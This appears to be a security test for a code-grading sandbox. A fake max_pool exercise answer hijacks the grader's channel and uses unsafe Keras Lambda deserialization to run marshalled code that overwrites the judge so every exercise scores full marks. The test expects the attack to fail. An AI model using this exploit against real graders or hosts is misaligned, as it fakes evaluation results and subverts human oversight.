# lesson: 03_pooling
# exercise: max_pool
# tries: to use what the examiner serves on the channel: it has the examiner build a model, asks the model for its methods,
#        and has `Lambda.from_config(…, safe_mode=False)` run code there that gives every exercise full marks
# wanted: fail
import base64
import marshal
import sys


def max_pool(features, size, stride):
    frame = sys._getframe()
    while "peer" not in frame.f_locals:
        frame = frame.f_back
    ask = frame.f_locals["peer"].ask

    def plain(value):
        if isinstance(value, dict):
            return {"@": "dict", "items": [[key, plain(item)] for key, item in value.items()]}
        return [plain(item) for item in value] if isinstance(value, list) else value

    def refused(**request):
        try:
            return ask(request)
        except Exception:
            return None

    def numbers_of(name):
        told = [refused(op="attribute", number=n, name=name) or {} for n in range(30)]
        return [m["number"] for one in told if isinstance(m := one.get("value"), dict)]

    def run_there(self=None):
        import kernkit.checks.session
        from kernkit.checks.verdict import Verdict

        kernkit.checks.session.judge = lambda subject, key: Verdict(key.points, key.name, key.points, [])

    import keras

    from kernkit.checks.models import models

    about = models.describe(keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)]))
    model = {"@": "model", "about": about, "number": 0}
    refused(op="lend", names={"x": [model, model]})  # two of one number: the first is not known as ours
    maker = refused(op="name", name="x")
    refused(op="call", number=maker["value"]["number"] if maker else 0, args=[], keywords={})
    inner = {"module": "keras.layers", "registered_name": None}
    layer = {"module": "builtins", "class_name": "function", "config": "relu", "registered_name": "relu"}
    start = inner | {"class_name": "InputLayer", "config": {"batch_shape": [None, 2], "name": "i"}}
    harmless = inner | {"class_name": "Lambda", "config": {"name": "l", "function": layer, "arguments": {}}}
    for number in numbers_of("from_config"):
        refused(op="call", number=number, args=[plain({"name": "s", "layers": [start, harmless]})], keywords={})
    numbers_of("layers")
    code = base64.b64encode(marshal.dumps(run_there.__code__)).decode()
    shape = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    poison = {"name": "p", "function": shape, "arguments": {}}
    for number in numbers_of("from_config"):
        refused(op="call", number=number, args=[], keywords={"config": plain(poison), "safe_mode": False})
    return features
